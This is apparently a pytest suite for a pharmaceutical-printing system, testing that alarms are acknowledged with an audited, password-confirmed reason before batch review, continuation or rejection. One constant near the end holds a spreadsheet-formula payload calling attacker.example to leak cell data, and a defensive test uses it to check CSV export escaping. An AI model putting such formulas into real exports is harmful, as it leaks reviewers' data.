"""Alarm acknowledgements: by a named person with a reason, before a paused run goes on and
before its batch is reviewed, released or rejected; audited, append-only, on the record."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from printpharm.catalog import Catalog
from printpharm.errors import (
    AccountLocked,
    AlarmNotAcknowledged,
    AuthenticationFailed,
    InputError,
    PermissionDenied,
    RecordError,
)
from printpharm.services.access.auth import UserSession
from printpharm.services.records.batches import BatchRecordsService
from printpharm.services.records.export import BatchExportService, record_to_csv, record_to_json
from printpharm.services.run.alarm_acks import AlarmAcknowledgements
from printpharm.services.run.db_recorder import DatabaseRecorder
from printpharm.services.run.loop import run_batch
from printpharm.services.run.result import AlarmRecord, OperatorDecision
from printpharm.storage.repositories import unit_of_work
from tests.services._records_fixtures import ADMIN_PW, Env, clock, db, db_spec, env, sqlite_template
from tests.services.conftest import make_request, options
from tests.storage._dbs import make_context

__all__ = ["clock", "db", "db_spec", "env", "sqlite_template"]

REASON = "clogged nozzle: syringe changed, nozzle purged (SOP PR-07)"


@pytest.fixture
def team(env: Env) -> dict[str, tuple[str, UserSession]]:
    people = {
        "tech1": env.make_user("tech1", "technician", "Tess Tech"),
        "sup1": env.make_user("sup1", "supervisor", "Sue Super"),
        "sup2": env.make_user("sup2", "supervisor", "Sam Second"),
        "insp": env.make_user("insp", "inspector", "Ivo Inspector"),
    }
    for user_id in ("sup1", "sup2"):
        password, session = people[user_id]
        env.enrol(user_id, password, session)
    return people


def _stopped_by_a_clog(env: Env, tech: UserSession, catalog: Catalog, sim_devices: Any) -> str:
    """A recorded run whose second unit clogs: the stop policy ends it with one alarm (a head
    without a load cell: the balance finds the unit out of tolerance)."""
    request = make_request(catalog, units=3)
    result = run_batch(
        request,
        sim_devices(request, clog_unit=2, pressure_sensor=0),
        recorder=DatabaseRecorder(env.auth, tech),
        options=options(),
    )
    assert result.status == "stopped" and len(result.alarms) == 1
    return result.batch_id


def test_review_and_rejection_wait_for_the_alarm_acknowledged_with_a_reason(
    env: Env, team: dict[str, tuple[str, UserSession]], catalog: Catalog, sim_devices: Any
) -> None:
    pw_t, tech = team["tech1"]
    batch_id = _stopped_by_a_clog(env, tech, catalog, sim_devices)
    acks, batches = AlarmAcknowledgements(env.auth), BatchRecordsService(env.auth, env.records)
    (alarm,) = acks.alarms(tech, batch_id)
    assert (alarm.kind, alarm.severity, alarm.acknowledged) == (
        "run.unit_out_of_tolerance", "stop", False,
    )  # fmt: skip
    pw1, sup1 = team["sup1"]
    pw2, sup2 = team["sup2"]
    with pytest.raises(AlarmNotAcknowledged) as refused:
        batches.review(sup2, batch_id, "sup2", pw2, "record reviewed")
    message = str(refused.value)
    assert f"#{alarm.alarm_id} unit out of tolerance (stop): unit 2:" in message
    assert f"printpharm batches ack {batch_id}" in message
    with pytest.raises(AlarmNotAcknowledged, match="cannot be rejected"):
        batches.dispose(sup1, batch_id, "rejected", "sup1", pw1, "clogged")
    assert not [s for s, _ in batches.signatures(sup1, batch_id)]  # nothing was signed

    with pytest.raises(InputError, match="needs a reason"):
        acks.acknowledge(tech, batch_id, alarm.alarm_id, "   ", "tech1", pw_t)
    with pytest.raises(AuthenticationFailed):
        acks.acknowledge(tech, batch_id, alarm.alarm_id, REASON, "tech1", "wrong password")
    assert env.events(action="alarm-acknowledgement-failed")[-1].user_id == "tech1"
    done = acks.acknowledge(tech, batch_id, alarm.alarm_id, f"  {REASON} ", "tech1", pw_t)
    assert done.acknowledged and done.ack is not None and done.ack.reason == REASON
    assert done.ack_text().startswith("Acknowledged by Tess Tech (tech1) on 2026-03-29 ")
    assert done.ack_text().endswith(f": {REASON}")
    (event,) = env.events(batch_id=batch_id, record_type="alarm", action="acknowledge")
    assert (event.user_id, event.reason, event.record_id) == ("tech1", REASON, str(alarm.alarm_id))
    assert event.new()["kind"] == "run.unit_out_of_tolerance"
    with pytest.raises(RecordError, match="acknowledged already: Acknowledged by Tess Tech"):
        acks.acknowledge(sup1, batch_id, alarm.alarm_id, "again", "sup1", pw1)

    batches.review(sup2, batch_id, "sup2", pw2, "record and alarm reviewed")
    batches.dispose(sup1, batch_id, "rejected", "sup1", pw1, "unit 2 out of tolerance")
    assert batches.get(sup1, batch_id).status == "rejected"


def test_a_drift_warning_needs_an_acknowledgement_too(
    env: Env, team: dict[str, tuple[str, UserSession]], catalog: Catalog, sim_devices: Any
) -> None:
    _, tech = team["tech1"]
    request = make_request(catalog, units=12)
    result = run_batch(
        request,
        sim_devices(request, drift_pct_per_unit=-0.8),
        recorder=DatabaseRecorder(env.auth, tech),
        options=options(),
    )
    assert result.status == "completed" and any(a.action == "warn" for a in result.alarms)
    pw2, sup2 = team["sup2"]
    with pytest.raises(AlarmNotAcknowledged, match=r"drift warning \(warn\): after unit"):
        BatchRecordsService(env.auth, env.records).review(sup2, result.batch_id, "sup2", pw2, "ok")


def test_only_people_who_print_acknowledge_each_with_their_own_password(
    env: Env, team: dict[str, tuple[str, UserSession]], catalog: Catalog, sim_devices: Any
) -> None:
    pw_t, tech = team["tech1"]
    batch_id = _stopped_by_a_clog(env, tech, catalog, sim_devices)
    acks = AlarmAcknowledgements(env.auth)
    (alarm,) = acks.alarms(tech, batch_id)
    pw_i, insp = team["insp"]
    with pytest.raises(PermissionDenied, match="alarms.acknowledge"):
        acks.acknowledge(insp, batch_id, alarm.alarm_id, REASON, "insp", pw_i)
    pw1, sup1 = team["sup1"]
    with pytest.raises(AuthenticationFailed, match="your own credentials"):
        acks.acknowledge(sup1, batch_id, alarm.alarm_id, REASON, "tech1", pw_t)
    with pytest.raises(RecordError, match="has no alarm"):
        acks.acknowledge(tech, "B-OTHER", alarm.alarm_id, REASON, "tech1", pw_t)
    with pytest.raises(RecordError, match="does not exist"):
        acks.alarms(tech, "B-OTHER")
    done = acks.acknowledge(sup1, batch_id, alarm.alarm_id, REASON, "sup1", pw1)  # a supervisor may
    assert done.ack is not None and done.ack.acknowledged_name == "Sue Super"


def test_acknowledgements_are_append_only_and_bound_to_the_alarm_they_answer(
    env: Env, team: dict[str, tuple[str, UserSession]], catalog: Catalog, sim_devices: Any
) -> None:
    pw_t, tech = team["tech1"]
    batch_id = _stopped_by_a_clog(env, tech, catalog, sim_devices)
    acks = AlarmAcknowledgements(env.auth)
    (alarm,) = acks.alarms(tech, batch_id)
    acks.acknowledge(tech, batch_id, alarm.alarm_id, REASON, "tech1", pw_t)
    for sql in ("UPDATE alarm_acks SET reason = 'nothing happened'", "DELETE FROM alarm_acks"):
        with pytest.raises(Exception, match="append-only"):
            with env.db.engine.begin() as conn:
                conn.execute(text(sql))
    with env.db.engine.begin() as conn:  # the alarm itself rewritten behind the services
        conn.execute(text("UPDATE alarms SET message = 'unit 2: fine' WHERE id = :i"),
                     {"i": alarm.alarm_id})  # fmt: skip
    (changed,) = acks.alarms(tech, batch_id)
    assert not changed.acknowledged and not changed.ack_matches
    assert changed.ack_text().endswith("ALARM CHANGED AFTER ACKNOWLEDGEMENT")
    pw2, sup2 = team["sup2"]
    with pytest.raises(AlarmNotAcknowledged, match="unit 2: fine"):
        BatchRecordsService(env.auth, env.records).review(sup2, batch_id, "sup2", pw2, "ok")


def _pause_run(env: Env, tech: UserSession, catalog: Catalog, sim_devices: Any,
               operator: Any, batch_id: str) -> Any:  # fmt: skip
    recipe = catalog.recipe("cpm-chewable-disc").model_copy(update={"alarm_policy": "pause"})
    request = dataclasses.replace(make_request(catalog, units=4, recipe=recipe), batch_id=batch_id)
    return run_batch(
        request,
        sim_devices(request, clog_unit=2, pressure_sensor=0),
        recorder=DatabaseRecorder(env.auth, tech),
        operator=operator,
        options=options(flow_correction=False),
    )


def test_a_paused_recorded_run_continues_only_after_its_alarm_is_acknowledged(
    env: Env, team: dict[str, tuple[str, UserSession]], catalog: Catalog, sim_devices: Any
) -> None:
    pw_t, tech = team["tech1"]
    acks = AlarmAcknowledgements(env.auth)
    careless = _pause_run(env, tech, catalog, sim_devices,
                          lambda alarm: OperatorDecision.CONTINUE, "B-PAUSE-1")  # fmt: skip
    assert careless.status == "stopped" and [u.n for u in careless.units] == [1, 2]
    assert "continue refused: alarm" in careless.reason and "not acknowledged" in careless.reason
    decided = careless.alarms[-1]
    assert decided.decision is OperatorDecision.CONTINUE and decided.action == "stop"

    seen: list[int] = []

    def acknowledge_then_continue(alarm: AlarmRecord) -> OperatorDecision:
        waiting = acks.open_pause(tech, "B-PAUSE-2")
        assert waiting is not None and waiting.message == alarm.message
        acks.acknowledge(tech, "B-PAUSE-2", waiting.alarm_id, REASON, "tech1", pw_t)
        seen.append(waiting.alarm_id)
        return OperatorDecision.CONTINUE

    careful = _pause_run(env, tech, catalog, sim_devices, acknowledge_then_continue, "B-PAUSE-2")
    # the clog stays: units 2-4 fail, each pause acknowledged before the run went on
    assert careful.status == "completed" and [u.verdict for u in careful.units] == [
        "pass", "fail", "fail", "fail",
    ]  # fmt: skip
    assert len(set(seen)) == 3 and acks.open_pause(tech, "B-PAUSE-2") is None
    stored = acks.alarms(tech, "B-PAUSE-2")
    assert [a.alarm_id for a in stored if a.acknowledged] == seen
    assert {a.severity for a in stored if not a.acknowledged} <= {"warn"}  # for the review
    actions = [(e.record_type, e.action) for e in env.events(batch_id="B-PAUSE-2")]
    raised = actions.index(("alarm", "raise"))
    assert actions[raised : raised + 3] == [
        ("alarm", "raise"), ("alarm", "acknowledge"), ("alarm", "decision"),
    ]  # fmt: skip


def test_the_record_shows_each_alarm_with_its_acknowledgement(
    env: Env, team: dict[str, tuple[str, UserSession]], catalog: Catalog, sim_devices: Any,
    tmp_path: Path,
) -> None:  # fmt: skip
    pw_t, tech = team["tech1"]
    batch_id = _stopped_by_a_clog(env, tech, catalog, sim_devices)
    exports = BatchExportService(env.auth, env.db)
    _, insp = team["insp"]
    before = exports.view(insp, batch_id)
    (alarm,) = before.alarm_register
    assert record_to_json(before)["derived"]["unacknowledged_alarms"] == [alarm.alarm_id]
    assert f"alarm_ack,{alarm.alarm_id}," in record_to_csv(before)
    assert "NOT ACKNOWLEDGED" in record_to_csv(before)
    AlarmAcknowledgements(env.auth).acknowledge(tech, batch_id, alarm.alarm_id, REASON, "tech1",
                                                pw_t)  # fmt: skip
    view = exports.view(insp, batch_id)
    data = json.loads(json.dumps(record_to_json(view)))
    assert data["derived"]["unacknowledged_alarms"] == []
    (stored,) = data["alarms"]
    assert stored["kind"] == "run.unit_out_of_tolerance" and stored["ack_matches"]
    ack = stored["acknowledgement"]
    assert (ack["acknowledged_by"], ack["reason"]) == ("tech1", REASON)
    assert ack["text"].startswith("Acknowledged by Tess Tech (tech1)")
    assert [a["action"] for a in view.alarms] == ["stop"]  # the run's alarms, not the ack event
    rows = [r for r in csv.reader(io.StringIO(record_to_csv(view))) if r[0] == "alarm_ack"]
    assert len(rows) == 2 and rows[1][1] == str(alarm.alarm_id)
    assert rows[1][6:8] == ["tech1", "Tess Tech"] and rows[1][-2:] == [REASON, "valid"]

    pdf = exports.export(insp, batch_id, "pdf", tmp_path / "record.pdf")  # registers the fonts
    assert pdf.path.read_bytes().startswith(b"%PDF-")
    from printpharm.services.records._alarms_pdf import acknowledgements_section

    heading, summary, table = acknowledgements_section(view)
    cells = [c.getPlainText() if hasattr(c, "getPlainText") else str(c)
             for row in table._cellvalues for c in row]  # fmt: skip
    assert "4a. Alarm acknowledgements" in heading.getPlainText()
    assert "every one acknowledged" in summary.getPlainText()
    assert any(c.startswith("Acknowledged by Tess Tech (tech1)") and REASON in c for c in cells)
    package = exports.export(insp, batch_id, "package", tmp_path / "record.sqlite")
    with sqlite3.connect(package.path) as conn:
        rows = conn.execute("SELECT alarm_id, acknowledged_by, reason FROM alarm_acks").fetchall()
    assert rows == [(alarm.alarm_id, "tech1", REASON)]


def test_the_alarm_row_mirrors_its_acknowledgement(
    env: Env, team: dict[str, Any], catalog: Catalog, sim_devices: Any
) -> None:
    """The alarm row mirrors its acknowledgement (who, when) for the older alarm queries."""
    pw_t, tech = team["tech1"]
    batch_id = _stopped_by_a_clog(env, tech, catalog, sim_devices)
    acks = AlarmAcknowledgements(env.auth)
    (alarm,) = acks.alarms(tech, batch_id)
    assert alarm.alarm_id in [a.id for a in _unacknowledged(env)]
    acks.acknowledge(tech, batch_id, alarm.alarm_id, REASON, "tech1", pw_t)
    assert alarm.alarm_id not in [a.id for a in _unacknowledged(env)]
    with unit_of_work(env.db, make_context(), write=False) as uow:
        row = uow.alarms.get(alarm.alarm_id)
    assert row is not None and row.acknowledged_by == "tech1"
    assert row.acknowledged_at == env.clock.now


def _unacknowledged(env: Env) -> list[Any]:
    with unit_of_work(env.db, make_context(), write=False) as uow:
        return uow.alarms.unacknowledged()


def _lock_out(env: Env, user_id: str) -> None:
    """Wrong passwords until ``user_id`` is locked out: a station alarm (no batch)."""
    for _ in range(env.auth.config.lockout_threshold):
        with pytest.raises((AuthenticationFailed, AccountLocked)):
            env.auth.login(user_id, "not the password")


def test_station_alarms_are_acknowledged_by_a_supervisor_or_an_administrator(
    env: Env, team: dict[str, tuple[str, UserSession]]
) -> None:
    """A lockout belongs to no batch; it is listed and acknowledged all the same (audited)."""
    _lock_out(env, "tech1")
    acks = AlarmAcknowledgements(env.auth)
    pw1, sup1 = team["sup1"]
    (alarm,) = acks.alarms(sup1, None)
    assert (alarm.kind, alarm.batch_id, alarm.acknowledged) == ("security.lockout", None, False)
    pw_i, insp = team["insp"]
    assert [a.alarm_id for a in acks.alarms(insp, None)] == [alarm.alarm_id]  # inspectors read
    with pytest.raises(PermissionDenied, match="alarms.acknowledge_station"):
        acks.acknowledge(insp, None, alarm.alarm_id, REASON, "insp", pw_i)
    pw2, sup2 = team["sup2"]
    technician_pw, _ = env.make_user("tech2", "technician")
    tech2 = env.auth.login("tech2", technician_pw)
    with pytest.raises(PermissionDenied, match="alarms.acknowledge_station"):
        acks.acknowledge(tech2, None, alarm.alarm_id, REASON, "tech2", technician_pw)
    with pytest.raises(RecordError, match="is an alarm of the station"):
        acks.acknowledge(sup2, "B-ANY", alarm.alarm_id, REASON, "sup2", pw2)
    assert env.admin is not None
    done = acks.acknowledge(
        env.admin, None, alarm.alarm_id, "identity confirmed", "admin", ADMIN_PW
    )
    assert done.acknowledged and done.ack is not None and done.ack.acknowledged_by == "admin"
    assert acks.alarms(sup1, None)[0].acknowledged
    assert alarm.alarm_id not in [a.id for a in _unacknowledged(env)]
    with pytest.raises(RecordError, match="acknowledged already"):
        acks.acknowledge(sup1, None, alarm.alarm_id, REASON, "sup1", pw1)
    events = env.events(record_type="alarm", action="acknowledge")
    assert [(e.record_id, e.user_id, e.reason) for e in events] == [
        (str(alarm.alarm_id), "admin", "identity confirmed")
    ]


def test_a_batch_alarm_is_not_acknowledged_as_the_stations(
    env: Env, team: dict[str, tuple[str, UserSession]], catalog: Catalog, sim_devices: Any
) -> None:
    pw_t, tech = team["tech1"]
    batch_id = _stopped_by_a_clog(env, tech, catalog, sim_devices)
    (alarm,) = AlarmAcknowledgements(env.auth).alarms(tech, batch_id)
    pw1, sup1 = team["sup1"]
    assert AlarmAcknowledgements(env.auth).alarms(sup1, None) == []
    with pytest.raises(RecordError, match=f"belongs to batch {batch_id}"):
        AlarmAcknowledgements(env.auth).acknowledge(sup1, None, alarm.alarm_id, REASON, "sup1", pw1)


#: What a technician could type as a reason to run in the inspector's spreadsheet.
FORMULA = '=HYPERLINK("http://attacker.example/?"&B2,"details")'


def test_a_reason_typed_as_a_formula_is_text_in_the_csv_exports_and_exact_in_the_json(
    env: Env, team: dict[str, tuple[str, UserSession]], catalog: Catalog, sim_devices: Any,
    tmp_path: Path,
) -> None:  # fmt: skip
    from printpharm.services.records.audit_export import AuditFilter, export_audit

    pw_t, tech = team["tech1"]
    batch_id = _stopped_by_a_clog(env, tech, catalog, sim_devices)
    (alarm,) = AlarmAcknowledgements(env.auth).alarms(tech, batch_id)
    AlarmAcknowledgements(env.auth).acknowledge(tech, batch_id, alarm.alarm_id, FORMULA, "tech1",
                                                pw_t)  # fmt: skip
    _, insp = team["insp"]
    view = BatchExportService(env.auth, env.db).view(insp, batch_id)
    rows = list(csv.reader(io.StringIO(record_to_csv(view))))
    (ack,) = [r for r in rows if r[0] == "alarm_ack" and r[1] == str(alarm.alarm_id)]
    assert ack[-2] == "'" + FORMULA  # an apostrophe: the spreadsheet shows the text
    assert not any(cell.startswith("=") for row in rows for cell in row)
    units = [r for r in rows if r[0] == "unit"]
    assert units[1][2] and units[1][2][0].isdigit()  # numbers are written as they are
    (stored,) = record_to_json(view)["alarms"]
    assert stored["acknowledgement"]["reason"] == FORMULA  # the JSON keeps it exact

    export_audit(env.auth, insp, "csv", tmp_path / "trail.csv", AuditFilter(batch_id=batch_id))
    trail = list(csv.DictReader(io.StringIO((tmp_path / "trail.csv").read_text())))
    assert "'" + FORMULA in {r["reason"] for r in trail}
    assert not any(v.startswith("=") for r in trail for v in r.values() if v)
